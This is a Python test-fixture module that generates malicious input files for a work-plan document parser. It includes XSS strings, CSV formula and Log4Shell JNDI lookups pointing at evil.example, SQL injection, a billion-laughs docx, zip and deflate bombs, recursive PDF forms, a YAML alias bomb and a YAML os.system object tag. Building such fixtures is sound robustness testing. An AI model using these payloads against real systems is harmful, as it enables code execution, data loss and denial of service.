"""Files that mean harm, by kind: what grows, what never ends, what would be run by whoever opens what is made of it."""

from __future__ import annotations

import json
import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO

from openpyxl import Workbook

from docxmaker import W, docx, paragraph
from workplan_parser import parse
from workplan_parser.writers.json import dumps
from workplan_parser.writers.yaml import dumps as yaml_dumps

SOUND = "2025年工作要点\n一、道路\n（一）新建公厕5座，2025年6月底前完成。\n责任单位：市政处\n"

INJECTED = (
    "<script>alert(1)</script>", "<svg/onload=alert(1)//>", "<img src=x onerror=alert(1)>", "</details><script>alert(1)</script>",
    '"><b onmouseover="alert(1)">', "</textarea></title></script><script>alert(1)</script>", "<!--<script>-->", "]]><script>alert(1)</script>",
    "[x](javascript:alert(1))", "![x](http://evil.example/x.png)", "<http://evil.example>", "`</code><script>alert(1)</script>`",
    "=cmd|'/C calc'!A0", "@SUM(1+1)", "+1-1", "-2+3", "\t=1+1", "=HYPERLINK(\"http://evil.example\")", "'; DROP TABLE items; --",
    "{{7*7}}", "{%raw%}", "${jndi:ldap://evil.example}", "%s%n", "@everyone", "::error file=x::y", "##[error]x", "\x1b[31m", "\x1b]0;x\x07",
    "\x9b31m", "\u202e\u2066", "\ufeff", "\ufffe", "\x00", "\x08\x08\x08", "| a | b |", "# x", "&lt;script&gt;", "\u2028::error::x",
)  # fmt: skip
"""Words that somebody's browser, spreadsheet, terminal, template or build would obey."""


def injected() -> str:
    """A plan that says them in its title, headings, names, offices, tables, citations and metadata."""
    lines = [
        f"2025年{''.join(INJECTED[:3])}工作要点",
        "索引号：" + INJECTED[0],
        f"来源：{INJECTED[1]}",
        "一、道路" + INJECTED[1],
    ]
    for n, words in enumerate(INJECTED, 1):
        lines += [
            f"{n}. {words}整治{words}。新建{words}公厕{n}座，覆盖率达到9{n % 10}%{words}。（{words}市政处）",
            f"责任单位：{words}局",
        ]
    lines += ["序号\t工作任务\t责任单位"]
    lines += [
        f"{n}\t{words}建公厕{n}座\t{words}市局" for n, words in enumerate(INJECTED, 1) if "\t" not in words
    ]
    return "\n".join(
        [*lines, "《" + INJECTED[0] + "》", "附件1" + INJECTED[2], "市" + INJECTED[4] + "局", "2025年2月7日"]
    )


def _objects(*bodies: bytes) -> bytes:
    out, places = b"%PDF-1.4\n", []
    for n, body in enumerate(bodies, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    size = len(bodies) + 1
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    return (
        out + b"xref\n0 %d\n0000000000 65535 f \n" % size + table
        + b"trailer\n<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF\n" % (size, len(out))
    )  # fmt: skip


def _stream(body: bytes, more: bytes = b"") -> bytes:
    return b"<<" + more + b"/Length %d>>stream\n" % len(body) + body + b"\nendstream"


def _page(content: bytes, *forms: bytes) -> bytes:
    """A PDF of one page whose content draws *forms* by the names I5, I6 …"""
    names = b"".join(b"/I%d %d 0 R" % (n, n) for n in range(5, 5 + len(forms)))
    return _objects(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</XObject<<"
        + names
        + b">>>>>>",
        content,
        *forms,
    )


def _form(body: bytes, draws: bytes) -> bytes:
    return _stream(body, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<<" + draws + b">>>>")


def self_drawing() -> bytes:
    """A form that draws itself twice."""
    twice = b"/I5 Do /I5 Do"
    return _page(_stream(twice), _form(twice, b"/I5 5 0 R"))


def chain_of_forms() -> bytes:
    """Twenty-five forms, each of which draws the next twice."""
    forms = [
        _form(b"/I%d Do /I%d Do" % (n + 1, n + 1), b"/I%d %d 0 R" % (n + 1, n + 1)) for n in range(5, 30)
    ]
    return _page(_stream(b"/I5 Do"), *forms, _form(b"0 0 m 9 9 l S", b""))


def squeezed_twice() -> bytes:
    """A stream of blanks deflated twice: a hundred megabytes in a kilobyte or two."""
    body = zlib.compress(zlib.compress(b" " * (100 << 20), 9), 9)
    return _page(_stream(body, b"/Filter[/FlateDecode/FlateDecode]"))


def _zipped(parts: dict[str, bytes]) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return out.getvalue()


def many_elements() -> bytes:
    """A paragraph of empty elements whose names differ enough to pass for text."""
    names = [f"<w:r{a}{b}/>" for a in "abcdefghijk" for b in "abcdefghijklmnopqrs"]
    return docx("<w:p>" + "".join(names[n * n % len(names)] for n in range(120_000)) + "</w:p>")


def numberings() -> bytes:
    """Definitions of numberings that no paragraph uses."""
    one = '<w:abstractNum w:abstractNumId="{0}"><w:lvl w:ilvl="0"><w:lvlText w:val="%{0}."/></w:lvl></w:abstractNum>'
    return docx(
        paragraph("道路", 0),
        numbering=f"<w:numbering {W}>{''.join(map(one.format, range(30_000)))}</w:numbering>",
    )


def entities() -> bytes:
    """A billion laughs, in a docx."""
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return docx(
        document=f'<!DOCTYPE d [<!ENTITY a0 "哈">{laughs}]><w:document {W}><w:body><w:p>&a9;</w:p></w:body></w:document>'
    )


def far_cell() -> bytes:
    """A workbook with one cell at the very end of its sheet."""
    book = Workbook()
    book.active["A1"], book.active["XFD1048576"] = "序号", "x"
    out = BytesIO()
    book.save(out)
    return out.getvalue()


def merged_wide() -> bytes:
    """A workbook whose first cell covers all of the sheet."""
    book = Workbook()
    book.active["A1"] = "一、道路"
    out = BytesIO()
    book.save(out)
    with zipfile.ZipFile(BytesIO(out.getvalue())) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    sheet = "xl/worksheets/sheet1.xml"
    areas = b'<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    parts[sheet] = parts[sheet].replace(b"</sheetData>", b"</sheetData>" + areas)
    return _zipped(parts)


def zeros(name: str) -> bytes:
    """An archive with a part of zeros, packed a thousand times smaller."""
    return _zipped({"[Content_Types].xml": b"<Types/>", name: b"\0" * (100 << 20)})


def spanning_table() -> bytes:
    """Cells that each cover a thousand rows and two hundred columns."""
    row = "<tr>" + "<td rowspan=1000 colspan=200>x</td>" * 5 + "</tr>"
    return f"<html><meta charset=utf-8><body><p>一、道路</p><table>{row * 300}</table></body></html>".encode()


def nested(tag: str, count: int) -> bytes:
    """Tags inside each other."""
    return f"<html><meta charset=utf-8><body>{f'<{tag}>' * count}文".encode()


def _forged(value: str) -> bytes:
    """A plan as this program writes it, with another number in it."""
    return dumps(parse(SOUND, name="forged")).replace('"value": 5,', f'"value": {value},').encode()


def aliases() -> bytes:
    """Lists of ten aliases of the list before, ten deep."""
    lists = [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 10)]
    return "\n".join(["a0: &a0 [x, x]", *lists]).encode()


def _yaml(old: str, new: str) -> bytes:
    return yaml_dumps(parse(SOUND, name="forged")).replace(old, new).encode()


PAYLOADS: dict[str, Callable[[], bytes]] = {
    "self-drawing.pdf": self_drawing,
    "chain.pdf": chain_of_forms,
    "squeezed.pdf": squeezed_twice,
    "cut.pdf": lambda: self_drawing()[:300],
    "elements.docx": many_elements,
    "numberings.docx": numberings,
    "entities.docx": entities,
    "zeros.docx": lambda: zeros("word/document.xml"),
    "deep.docx": lambda: docx("<w:sdt>" * 5000 + "</w:sdt>" * 5000),
    "zeros.xlsx": lambda: zeros("xl/workbook.xml"),
    "far.xlsx": far_cell,
    "merged.xlsx": merged_wide,
    "spanning.html": spanning_table,
    "deep.html": lambda: nested("div", 50_000),
    "lists.html": lambda: nested("ol><li", 2_000),
    "tables.html": lambda: nested("table><tr><td", 1_000),
    "undefined.html": lambda: b"<html><meta charset=undefined><p>" + SOUND.encode("gbk"),
    "latin.html": lambda: b"<html><meta charset=iso-8859-1><p>" + SOUND.encode("gbk"),
    "injected.html": lambda: ("<html><meta charset=utf-8><body><pre>" + json.dumps(injected()) + "</pre>").encode(),
    "injected.txt": lambda: injected().encode(),
    "injected.csv": lambda: "\n".join(["序号,工作任务,责任单位", *(f'{n},"{w}建公厕5座",{w}局' for n, w in enumerate(INJECTED, 1) if '"' not in w)]).encode(),
    "digits.txt": lambda: f"序号\t工作任务\t责任单位\n{'9' * 4301}\t建公厕{'8' * 5000}座\t市局\n2\t建路\t市局\n".encode(),
    "brackets.txt": lambda: ("一、" + "（《“【" * 8_000).encode(),
    "marks.txt": lambda: ("一、\n（一）" * 700).encode(),
    "zeros.txt": lambda: b"\0" * 100_000,
    "halves.txt": lambda: ("一、道路\n" * 10).encode("utf-16-le")[:-1],
    "great.json": lambda: _forged("1e999999999"),
    "small.json": lambda: _forged("1e-999999"),
    "quoted.json": lambda: _forged('"1e999999"'),
    "long.json": lambda: _forged("9" * 100_000),
    "nan.json": lambda: _forged("NaN"),
    "span.json": lambda: dumps(parse(SOUND)).replace('"start": ', '"start": 9999999999999999999').encode(),
    "half.json": lambda: dumps(parse(SOUND)).replace("公厕", "公\\ud800厕").encode(),
    "deep.json": lambda: b'{"schema_version": "1.1", "sections": ' + b"[" * 100_000,
    "words.json": lambda: dumps(parse(injected(), name="forged")).encode(),
    "aliases.yaml": aliases,
    "deep.yaml": lambda: b"[" * 100_000,
    "inf.yaml": lambda: _yaml("value: 5", "value: .inf"),
    "sixty.yaml": lambda: _yaml("value: 5", "value: 1:30"),
    "object.yaml": lambda: b"schema_version: !!python/object/apply:os.system ['touch ran']",
}  # fmt: skip
"""By the name of the file."""
